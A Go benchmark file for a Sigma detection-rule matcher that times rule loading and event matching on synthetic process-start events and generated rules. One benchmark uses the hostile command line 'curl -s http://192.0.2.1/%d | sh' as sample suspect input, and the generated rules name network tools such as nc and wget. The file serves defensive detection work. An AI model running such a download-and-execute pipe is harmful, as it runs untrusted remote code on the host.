package sigma

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

// benchSet is our own rules, and the public ones where they are at hand.
func benchSet(tb testing.TB) *Set {
	sources := []Source{Path(filepath.Join("..", "rules"))}
	if dir := os.Getenv("SIGMA"); dir != "" {
		sources = append(sources, Path(filepath.Join(dir, "rules")))
	}
	return Load(Options{AnyField: true}, sources...)
}

// ordinaryEvent fills in a process start as servers see them all day.
func ordinaryEvent(ev *Event, i int) {
	users := []string{"root", "postgres", "www-data", "alice"}
	images := []string{"/usr/sbin/nginx", "/usr/lib/postgresql/16/bin/postgres", "/usr/bin/node", "/usr/bin/dash", "/usr/bin/python3.12", "/usr/sbin/cron"}
	commands := []string{
		"nginx: worker process",
		"/usr/lib/postgresql/16/bin/postgres\x00-D\x00/var/lib/postgresql/16/main\x00-c\x00config_file=/etc/postgresql/16/main/postgresql.conf\x00",
		"/usr/bin/node\x00--enable-source-maps\x00/srv/app/dist/server.js\x00--port\x008080\x00",
		"/bin/sh\x00-c\x00/usr/local/bin/backup --verbose --target /srv/backup/daily\x00",
		"/usr/bin/python3\x00/usr/bin/unattended-upgrade\x00--download-only\x00",
		"/usr/sbin/CRON\x00-f\x00-P\x00",
	}
	ev.Reset(ProcessCreation)
	ev.Set(Image, images[i%len(images)])
	ev.SetArgs(CommandLine, commands[i%len(commands)])
	ev.Set(ParentImage, "/usr/lib/systemd/systemd")
	ev.SetArgs(ParentCommandLine, "/sbin/init\x00splash\x00")
	ev.Set(User, users[i%len(users)])
	ev.Set(CurrentDirectory, "/")
	ev.SetInt(LogonID, 4294967295)
	ev.SetInt(ProcessID, int64(i))
	ev.SetInt(ParentProcessID, 1)
}

func BenchmarkOrdinaryEvent(b *testing.B) {
	set := benchSet(b)
	m := set.NewMatcher()
	var ev Event
	var hits []*Entry
	b.ReportAllocs()
	b.ReportMetric(float64(len(set.Entries())), "rules")
	for i := 0; b.Loop(); i++ {
		ordinaryEvent(&ev, i)
		hits = m.Match(&ev, hits[:0])
	}
}

// BenchmarkIdentities10000 is one cycle that sees 10,000 programs for the first
// time.
func BenchmarkIdentities10000(b *testing.B) {
	set := benchSet(b)
	m := set.NewMatcher()
	var ev Event
	var hits []*Entry
	b.ReportAllocs()
	for b.Loop() {
		for i := range 10000 {
			ordinaryEvent(&ev, i)
			hits = m.Match(&ev, hits[:0])
		}
	}
}

// BenchmarkDistinctEvents is one cycle that sees 10,000 programs for the first
// time, no two of which are alike.
func BenchmarkDistinctEvents(b *testing.B) {
	benchEvents(b, "/srv/app/worker\x00--shard=%d\x00")
}

// BenchmarkSuspectEvents is 10,000 program starts that rules must be evaluated for in
// full, no two of which are alike.
func BenchmarkSuspectEvents(b *testing.B) {
	benchEvents(b, "bash\x00-c\x00curl -s http://192.0.2.1/%d | sh\x00")
}

// benchEvents matches 10,000 events whose arguments have a number of their own.
func benchEvents(b *testing.B, args string) {
	m := benchSet(b).NewMatcher()
	events := make([]Event, 10000)
	for i := range events {
		ordinaryEvent(&events[i], i)
		events[i].SetArgs(CommandLine, fmt.Sprintf(args, i))
	}
	var hits []*Entry
	b.ReportAllocs()
	for b.Loop() {
		for i := range events {
			hits = m.Match(&events[i], hits[:0])
		}
	}
}

// generated writes rules as an operator with a large collection has them: some
// share their programs, all have arguments of their own.
func generated(n int) string {
	programs := []string{"bash", "sh", "python3", "curl", "wget", "nc", "systemctl", "docker", "kubectl", "ssh"}
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `---
title: Generated Rule Number %[1]d
id: 00000000-0000-4000-8000-%012[1]d
status: test
description: A rule that stands for the many of a large collection, and is as long as those are.
references:
    - https://example.org/rules/%[1]d
author: nobody
date: 2026-01-01
tags:
    - attack.execution
    - attack.t1059.%03[2]d
logsource:
    category: process_creation
    product: linux
detection:
    selection_img:
        - Image|endswith:
              - '/%[3]s'
              - '/tool%[1]d'
        - Image|contains: '/opt/vendor%[1]d/'
    selection_cli:
        CommandLine|contains|all:
            - ' --option%[2]d'
            - 'value-%[1]d'
    filter_main_parent:
        ParentImage|endswith: '/agent%[2]d'
    condition: all of selection_* and not 1 of filter_main_*
falsepositives:
    - Unknown
level: medium
`, i, i%400, programs[i%len(programs)])
	}
	return b.String()
}

func heap() uint64 {
	runtime.GC()
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

func writeGenerated(tb testing.TB, n int) string {
	dir := tb.TempDir()
	for i, text := range strings.Split(generated(n), "---\n")[1:] {
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf("rule_%05d.yml", i)), []byte(text), 0o644); err != nil {
			tb.Fatal(err)
		}
	}
	return dir
}

func BenchmarkLoad3000(b *testing.B) {
	dir := writeGenerated(b, 3000)
	before := heap()
	var set *Set
	b.ReportAllocs()
	for b.Loop() {
		set = Load(Options{}, Path(dir))
	}
	if len(set.Entries()) != 3000 {
		b.Fatalf("%d rules", len(set.Entries()))
	}
	b.ReportMetric(float64(heap()-before)/(1<<20), "MB-kept")
	runtime.KeepAlive(set)
}

func BenchmarkEvent3000(b *testing.B) {
	set := Load(Options{}, Path(writeGenerated(b, 3000)))
	m := set.NewMatcher()
	var ev Event
	var hits []*Entry
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		ordinaryEvent(&ev, i)
		hits = m.Match(&ev, hits[:0])
	}
}
